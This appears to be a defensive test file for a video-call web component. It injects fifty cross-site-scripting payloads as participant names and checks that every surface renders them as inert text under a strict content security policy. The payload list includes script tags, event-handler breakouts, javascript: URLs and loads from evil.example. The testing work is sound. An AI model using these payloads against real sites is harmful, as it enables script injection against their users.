/** Fifty names that would run as script where a name were not text, on every surface that shows one, under a strict policy. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Page } from 'puppeteer-core';
import { RawClient } from '../server/raw-client.js';
import { inPage, until } from './facts.js';
import { Lab } from './lab.js';

const lab = await Lab.start({ PREVIEW: 'names' });

/** Each fits into a name. Whatever they run is `alert`. */
const PAYLOADS = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//evil.example></script>',
    '<ScRiPt>alert(1)</sCrIpT>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src/onerror=alert(1)>',
    '<image src=x onerror=alert(1)>',
  ],
  ...['<svg onload=alert(1)>', '<svg><script>alert(1)</script>', '<svg/onload=alert`1`>'],
  ...['<svg><animate onbegin=alert(1) attributeName=x>', '<svg><use href="data:,x#x"/></svg>'],
  ...[
    '<body onload=alert(1)>',
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>alert(1)">',
  ],
  ...[
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<base href=//evil.example>',
  ],
  ...[
    '<a href=javascript:alert(1)>x</a>',
    '<a href="data:text/html,x">x</a>',
    '<form action=//evil.example>',
  ],
  ...['<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>'],
  ...[
    '<video><source onerror=alert(1)>',
    '<video src=x onerror=alert(1)>',
    '<audio src=x onerror=alert(1)>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<meta http-equiv=refresh content=0>',
  ],
  ...['<link rel=stylesheet href=//evil.example>', '<style>@import "//evil.example";</style>'],
  ...['<style>*{display:none}</style>', '<math><mtext><img src=x onerror=alert(1)>'],
  ...[
    '<template><script>alert(1)</script>',
    '<noscript><img src=x onerror=alert(1)>',
    '<xss id=x>',
  ],
  ...[
    '"><script>alert(1)</script>',
    '\'"><img src=x onerror=alert(1)>',
    '--><script>alert(1)</script>',
  ],
  ...[
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '</style><script>alert(1)</script>',
  ],
  ...['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '&lt;script&gt;alert(1)'],
  ...['&#60;img src=x onerror=alert(1)&#62;', '\\x3cscript\\x3ealert(1)', '${alert(1)}'],
  ...[
    '<!--<img src="--><img src=x onerror=alert(1)>',
    '<lit-part><img src=x onerror=alert(1)>',
    '\u202e<img src=x onerror=alert(1)>',
  ],
];
/** With the one who looks as many as a room takes, and one who waits before it. */
const AT_ONCE = 7;

const policy = (origin: string, port: number) =>
  [
    "default-src 'none'",
    `script-src ${origin}`,
    `connect-src ws://localhost:${port}`,
    'img-src data:',
    "require-trusted-types-for 'script'",
    'trusted-types lit-html',
  ].join('; ');

/** Runs before the page: counts what ought never to happen. */
const WATCH = `
  window.broken = [];
  window.alert = () => window.broken.push('alert');
  document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
    window.broken.push(violatedDirective + ' ' + blockedURI));
  navigator.mediaDevices.enumerateDevices = async () =>
    ['videoinput', 'audioinput', 'audiooutput'].flatMap((kind) =>
      ['<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'].map((label, index) =>
        ({ kind, label, deviceId: kind + index, groupId: '' })));
`;

/** What a page has that TypeScript does not know. */
type WithTop = { documentPictureInPicture: { window: Window | null } };

interface Seen {
  /** Elements by their tags, of the element and its window on top. */
  tags: string[];
  /** Attributes that do something. */
  acting: string[];
  text: string;
  broken: string[];
}

const look = (page: Page): Promise<Seen> =>
  page.evaluate(() => {
    const top = (window as unknown as WithTop).documentPictureInPicture.window;
    const roots = [
      document.querySelector('video-call')!.shadowRoot!,
      ...(top ? [top.document.body.firstElementChild!.shadowRoot!] : []),
    ];
    const all = roots.flatMap((root) => [...root.querySelectorAll('*')]);
    const attributes = all.flatMap((one) => [...one.attributes]);
    return {
      tags: [...new Set(all.map(({ tagName }) => tagName.toLowerCase()))].sort(),
      acting: attributes
        .filter(
          ({ name, value }) =>
            /^(on|src|style|action|form)/.test(name) ||
            (name === 'href' && !/^https?:/.test(value)),
        )
        .map(({ name, value }) => `${name}=${value.replace(/-?[\d.]+/g, '0')}`),
      text: [
        ...roots.map(({ textContent }) => textContent),
        ...attributes.map(({ value }) => value),
        ...all.map((one) => (one as HTMLInputElement).value ?? ''),
      ].join('\n'),
      broken: (window as unknown as { broken: string[] }).broken,
    };
  });

const press = (page: Page, part: string) =>
  inPage(
    page,
    (one, name) => one.shadowRoot!.querySelector<HTMLElement>(`[part~="${name}"]`)!.click(),
    part,
  );
const untilShown = (page: Page, part: string, text = '') =>
  until(
    page,
    `${part} with “${text}”`,
    (one, name, wanted) =>
      [...one.shadowRoot!.querySelectorAll<HTMLElement>(`[part~="${name}"]`)].some(
        ({ textContent }) => textContent!.includes(wanted),
      ),
    part,
    text,
  );

async function arrive(room: string, names: readonly string[], from = 0): Promise<RawClient[]> {
  const clients: RawClient[] = [];
  for (const [index, name] of names.entries()) {
    const client = await RawClient.open(lab.server.url, room);
    client.sayJoin(name, (from + index + 1).toString(16).padStart(32, '0'), { page: 'page' });
    await client.until('an answer', () =>
      client.heard.some(({ type }) => type === 'roster' || type === 'knocking'),
    );
    clients.push(client);
  }
  return clients;
}

/** Shows some names on every surface; each look is taken while something else is open. */
async function show(room: string, names: readonly string[], knocking: string): Promise<Seen[]> {
  const headers = { 'content-security-policy': policy(lab.server.url, lab.server.port) };
  const open = async (attributes: string) => {
    const page = await lab.open('about:blank');
    await page.evaluateOnNewDocument(WATCH);
    await page.goto(lab.embed(`room="${room}" ${attributes}`, headers));
    return page;
  };
  const ana = await open('name="Ana" autojoin');
  await until(ana, 'Ana in', (one) => one.status === 'joined');
  const seen: Seen[] = [];
  const people = await arrive(room, names);
  await until(
    ana,
    'all of them',
    (one, count) => one.participants.length === count,
    names.length + 1,
  );
  for (const name of names) await untilShown(ana, 'name', name);
  seen.push(await look(ana));

  const lobby = await open('name="Ben"');
  await untilShown(lobby, 'here', names[0]!);
  seen.push(await look(lobby));
  await lobby.close();

  await inPage(ana, (one) => one.call!.setPolicy({ waiting: true }));
  await until(ana, 'a door', (one) => one.call!.policy?.waiting === true);
  const [knocker] = await arrive(room, [knocking], 100);
  await until(ana, 'a knock', (one) => one.call!.knocking.length === 1);
  await press(ana, 'people-button');
  await untilShown(ana, 'person-name', knocking);
  for (const name of names) await untilShown(ana, 'person-name', name);
  await inPage(ana, (one) => {
    for (const button of one.shadowRoot!.querySelectorAll<HTMLElement>('[part~="remove"]'))
      button.click();
  });
  await untilShown(ana, 'removal');
  seen.push(await look(ana));
  await press(ana, 'close-button');
  await until(ana, 'no dialog', (one) => !one.shadowRoot!.querySelector('[part~="dialog"]'));

  // Each has its own label on its button; what a menu is called is made as one of them.
  for (const place of process.env['LONG'] ? names.keys() : [1]) {
    await inPage(
      ana,
      (one, index) =>
        one.shadowRoot!.querySelectorAll<HTMLElement>('[part~="tile-button"]')[index]!.click(),
      place,
    );
    await untilShown(ana, 'menu');
    seen.push(await look(ana));
    await ana.keyboard.press('Escape');
    await until(ana, 'no menu', (one) => !one.shadowRoot!.querySelector('[part~="menu"]'));
  }

  await press(ana, 'camera-devices');
  await untilShown(ana, 'menu', '<img src=x');
  seen.push(await look(ana));
  await ana.keyboard.press('Escape');

  // The browser opens a window after a real press alone.
  for (const [part, text] of [
    ['more-button', ''],
    ['menu-item', 'Small window on top'],
  ] as const) {
    await untilShown(ana, part, text);
    const buttons = await ana.$$(`pierce/[part~="${part}"]`);
    for (const button of buttons) {
      if ((await button.evaluate((one) => one.textContent!)).includes(text)) {
        await button.click();
        break;
      }
    }
  }
  await until(ana, 'a window on top', (one) => one.pictureInPicture !== undefined);
  await ana.waitForFunction(
    (count) =>
      (
        window as unknown as { documentPictureInPicture: { window: Window } }
      ).documentPictureInPicture.window.document.body.firstElementChild!.shadowRoot!.querySelectorAll(
        '[part~="tile"]',
      ).length > count,
    {},
    names.length,
  );
  seen.push(await look(ana));
  await ana.evaluate(() => (window as unknown as WithTop).documentPictureInPicture.window!.close());
  await until(ana, 'no window on top', (one) => one.pictureInPicture === undefined);

  for (const client of [...people, knocker!]) {
    client.say({ type: 'leave' });
    client.close();
  }
  await until(ana, 'nobody else', (one) => one.participants.length === 1);
  seen.push(await look(ana));
  await lab.clear();
  return seen;
}

test(`${PAYLOADS.length} names that would be script are text wherever they stand`, async () => {
  assert.equal(new Set(PAYLOADS).size, 50);
  assert.ok(PAYLOADS.every((payload) => [...payload].length <= 64));
  const plain = await show('plain', ['Ben', 'Cleo', 'Dan'], 'Eve');
  const known = new Set(plain.flatMap(({ tags }) => tags));
  const acting = new Set(plain.flatMap((one) => one.acting));
  for (let from = 0; from < PAYLOADS.length; from += AT_ONCE) {
    const names = PAYLOADS.slice(from, from + AT_ONCE);
    const seen = await show(`room ${from}`, names, PAYLOADS[(from + AT_ONCE) % PAYLOADS.length]!);
    for (const one of seen) {
      assert.deepEqual(one.broken, []);
      assert.deepEqual(
        one.tags.filter((tag) => !known.has(tag)),
        [],
      );
      assert.deepEqual(
        one.acting.filter((attribute) => !acting.has(attribute)),
        [],
      );
    }
    for (const name of names) assert.ok(seen[0]!.text.includes(name), name);
  }
});
